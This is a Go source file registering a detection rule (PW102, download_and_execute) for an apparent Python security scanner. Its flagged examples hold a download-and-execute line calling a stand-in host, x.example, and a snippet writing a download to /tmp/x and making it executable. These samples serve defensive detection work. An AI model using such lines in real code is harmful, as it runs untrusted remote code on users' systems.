package rules

import "github.com/pyward/pyward/python/ast"

func init() {
	Register(&Rule{
		ID: "PW102", Name: "download_and_execute", Severity: High, Confidence: High, CWE: 494,
		Message:        "data downloaded from the network is executed",
		Recommendation: "Never run downloaded code; ship dependencies through the package manager with pinned hashes.",
		Help:           "A network response (urlopen, requests, httpx, a socket) that reaches exec/eval, a process, or a file that is then made executable or run: the download-and-execute pattern of droppers.",
		Flagged:        []string{"import urllib.request\nexec(urllib.request.urlopen(\"http://x.example/p.py\").read())\n", "import requests, os\nbody = requests.get(url).content\nwith open(\"/tmp/x\", \"wb\") as f:\n    f.write(body)\nos.chmod(\"/tmp/x\", 0o755)\n"},
		Clean:          []string{"import requests, json\ndata = json.loads(requests.get(url).text)\n"},
		Kinds:          []Kind{KindEnd},
		Check:          func(c *Context, _ ast.Node) { c.reportFlow() },
	})
}
